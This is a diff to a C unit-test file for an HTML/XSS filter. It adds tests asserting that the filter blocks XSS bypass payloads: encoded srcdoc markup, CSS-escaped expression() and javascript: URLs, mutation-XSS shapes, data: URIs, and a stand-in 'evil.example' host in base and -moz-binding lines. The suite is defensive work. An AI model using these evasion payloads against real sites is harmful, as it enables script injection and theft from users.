@@ -350,6 +350,100 @@ static void bypass_families_fire(void **state)
 	assert_int_equal(text("<?import namespace=t implementation=#default#time2>"), MOAT_BLOCK);
 }
 
+/* Session 12's bypass hunt. An iframe's srcdoc is a document of its own:
+ * markup written with any character reference (numeric with leading zeros
+ * and without the ';', &#60 &#x3c &#0000060;, named in capitals) becomes
+ * tags there, and CSS escapes (\65, \000065, \73 and a space) or
+ * character references inside a style value are what the CSS parser
+ * reads. */
+#define srcdoc(in) page(S(in), "<iframe srcdoc=\"", S(in), "\"></iframe>", NULL)
+#define style(in)  page(S(in), "<div style=\"color:", S(in), "\">x</div>", NULL)
+
+static void srcdoc_markup_written_as_any_reference_fires(void **state)
+{
+	const char *rule;
+
+	(void)state;
+	assert_int_equal(srcdoc("&#60img src=x onerror=alert(1)>"), MOAT_BLOCK);
+	assert_int_equal(srcdoc("&#x3cimg src=x onerror=alert(1)>"), MOAT_BLOCK);
+	assert_int_equal(srcdoc("&#X3C;svg onload=alert(1)>"), MOAT_BLOCK);
+	assert_int_equal(srcdoc("&#0000060script>alert(1)&#60/script>"), MOAT_BLOCK);
+	assert_int_equal(page(S("&#60svg/onload=alert(1)>"), "<iframe srcdoc='",
+	                      S("&#60svg/onload=alert(1)>"), "'></iframe>", &rule),
+	                 MOAT_BLOCK);
+	assert_string_equal(rule, "xss.srcdoc");
+	/* still held: written, named */
+	assert_int_equal(srcdoc("&lt;script&gt;alert(1)&lt;/script&gt;"), MOAT_BLOCK);
+	assert_int_equal(srcdoc("&LT;img src=x onerror=alert(1)>"), MOAT_BLOCK);
+	/* text: an escaped reference stays text in the srcdoc document */
+	assert_int_equal(srcdoc("&amp;lt;b&amp;gt; is bold"), MOAT_ALLOW);
+	assert_int_equal(srcdoc("Tom &amp; Jerry, 1 &#62; 0"), MOAT_ALLOW);
+}
+
+static void css_escapes_and_references_in_a_style_fire(void **state)
+{
+	const char *rule;
+
+	(void)state;
+	assert_int_equal(page(S("red;x:e\\78pression(alert(1))"), "<div style=\"color:",
+	                      S("red;x:e\\78pression(alert(1))"), "\">x</div>", &rule),
+	                 MOAT_BLOCK);
+	assert_string_equal(rule, "xss.style");
+	assert_int_equal(style("red;x:\\000065xpression(alert(1))"), MOAT_BLOCK);
+	assert_int_equal(style("red;x:\\65 xpression(alert(1))"), MOAT_BLOCK);
+	assert_int_equal(style("red;background:url(jav&#x61;script:alert(1))"), MOAT_BLOCK);
+	assert_int_equal(style("red;background:url(javascript&#58;alert(1))"), MOAT_BLOCK);
+	assert_int_equal(style("red;background:url(&#x27;java\\73 cript:alert(1)&#x27;)"),
+	                 MOAT_BLOCK);
+	assert_int_equal(style("red;-moz-b\\69nding:url(//evil.example/x.xml#x)"), MOAT_BLOCK);
+	/* still held: backslashes and comments between letters */
+	assert_int_equal(style("red;x:ex\\pression(alert(1))"), MOAT_BLOCK);
+	assert_int_equal(style("red;x:expr/**/ession(alert(1))"), MOAT_BLOCK);
+	/* CSS escapes of ordinary text pass: a font's name, a quotation mark */
+	assert_int_equal(style("red;font-family:\\5FAE\\8F6F\\96C5\\9ED1"), MOAT_ALLOW);
+	assert_int_equal(style("red;quotes:'\\201C' '\\201D'"), MOAT_ALLOW);
+	assert_int_equal(style("red;background:url(/img/a&amp;b.png)"), MOAT_ALLOW);
+}
+
+/* Families that held when the session 12 hunt tried them: script URLs
+ * written with references (leading zeros, no ';', &Tab; &NewLine;
+ * &colon;), controls and tabs in the scheme, data: documents, the
+ * elements that change the page's base or a form's target, and mutation
+ * shapes (an end tag of a raw-text element inside an attribute value of
+ * noscript, title, textarea; style inside svg and math). */
+static void reference_and_mutation_shapes_fire(void **state)
+{
+	(void)state;
+	assert_int_equal(href("&#0000106avascript:alert(1)"), MOAT_BLOCK);
+	assert_int_equal(href("&#106avascript:alert(1)"), MOAT_BLOCK);
+	assert_int_equal(href("javascript&#x3A;alert(1)"), MOAT_BLOCK);
+	assert_int_equal(href("java&Tab;script:alert(1)"), MOAT_BLOCK);
+	assert_int_equal(href("javas&NewLine;cript:alert(1)"), MOAT_BLOCK);
+	assert_int_equal(href("\x01javascript:alert(1)"), MOAT_BLOCK);
+	assert_int_equal(href("JaVaScRiPt:alert(1)"), MOAT_BLOCK);
+	assert_int_equal(href("javascript:void(0)&#10;alert(1)"), MOAT_BLOCK);
+	assert_int_equal(href("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
+	                 MOAT_BLOCK);
+	assert_int_equal(href("data:image/svg+xml,<svg onload=alert(1)>"), MOAT_BLOCK);
+	assert_int_equal(text("<base href=\"//evil.example/\">"), MOAT_BLOCK);
+	assert_int_equal(text("<button form=f formaction=\"javascript:alert(1)\">x"), MOAT_BLOCK);
+	assert_int_equal(text("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
+	                 MOAT_BLOCK);
+	assert_int_equal(text("<title><img title=\"</title><img src onerror=alert(1)>\">"),
+	                 MOAT_BLOCK);
+	assert_int_equal(text("<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
+	                 MOAT_BLOCK);
+	assert_int_equal(text("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
+	                 MOAT_BLOCK);
+	assert_int_equal(jss("</script/x><svg onload=alert(1)>"), MOAT_BLOCK);
+	assert_int_equal(area("</TEXTAREA ><script>alert(1)</script>"), MOAT_BLOCK);
+	/* what stays data: a reference inside a quoted value, a hex reference
+	 * that is not a j (&#x6aa is U+06AA), a JavaScript escape in a string */
+	assert_int_equal(dqv("&quot; onfocus=alert(1)"), MOAT_ALLOW);
+	assert_int_equal(href("&#x6aavascript:alert(1)"), MOAT_ALLOW);
+	assert_int_equal(jss("\\u0022;alert(1)//"), MOAT_ALLOW);
+}
+
 /* Filter evasions: markup that becomes an active element once the
  * input's own tags and comments are removed (as a tag-stripping filter
  * does: "split tags"); a script scheme written with one more layer of
@@ -629,6 +723,9 @@ int main(void)
 	    cmocka_unit_test(script_urls_fire),
 	    cmocka_unit_test(leaving_a_script_string_fires),
 	    cmocka_unit_test(bypass_families_fire),
+	    cmocka_unit_test(srcdoc_markup_written_as_any_reference_fires),
+	    cmocka_unit_test(css_escapes_and_references_in_a_style_fire),
+	    cmocka_unit_test(reference_and_mutation_shapes_fire),
 	    cmocka_unit_test(split_tags_encoded_schemes_and_includes_fire),
 	    cmocka_unit_test(text_and_quoted_values_stay_data),
 	    cmocka_unit_test(a_script_url_that_runs_nothing_passes_and_a_whole_handler_fires),
